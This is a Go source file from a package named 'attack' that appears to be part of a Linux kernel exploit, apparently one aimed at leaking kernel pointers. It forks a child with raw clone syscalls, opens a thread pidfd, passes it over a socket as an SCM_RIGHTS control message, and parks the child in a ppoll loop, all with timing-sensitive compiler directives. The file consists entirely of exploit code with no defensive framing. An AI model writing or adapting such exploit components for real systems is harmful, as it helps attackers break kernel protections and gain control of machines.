//go:build !race

package attack

import (
	"encoding/binary"
	"syscall"
	"unsafe"

	"golang.org/x/sys/unix"

	"kptr/sys"
)

// forkChild forks. The child puts a pidfd into the control message, sends, and waits to be killed.
//
//go:norace
//go:nosplit
func (a *actorState) forkChild(flags, second uintptr, tid int, rights []byte, msg *unix.Msghdr) (int, syscall.Errno) {
	socket := uintptr(a.conns[0].fd)
	pid, _, errno := syscall.RawSyscall6(unix.SYS_CLONE, flags, second, 0, 0, 0, 0)
	if errno != 0 || pid != 0 {
		return int(pid), errno
	}
	target := uintptr(tid)
	if tid == 0 {
		target, _, _ = syscall.RawSyscall(unix.SYS_GETPID, 0, 0, 0)
	}
	fd, _, _ := syscall.RawSyscall(unix.SYS_PIDFD_OPEN, target, sys.PIDFD_THREAD, 0)
	data := rights[unix.SizeofCmsghdr:]
	data[0], data[1], data[2], data[3] = byte(fd), byte(fd>>8), 0, 0
	if binary.NativeEndian.Uint16([]byte{0, 1}) == 1 {
		data[0], data[1], data[2], data[3] = 0, 0, byte(fd>>8), byte(fd)
	}
	syscall.RawSyscall(unix.SYS_SENDMSG, socket, uintptr(unsafe.Pointer(msg)), 0)
	for {
		syscall.RawSyscall6(unix.SYS_PPOLL, 0, 0, 0, 0, 0, 0)
	}
}
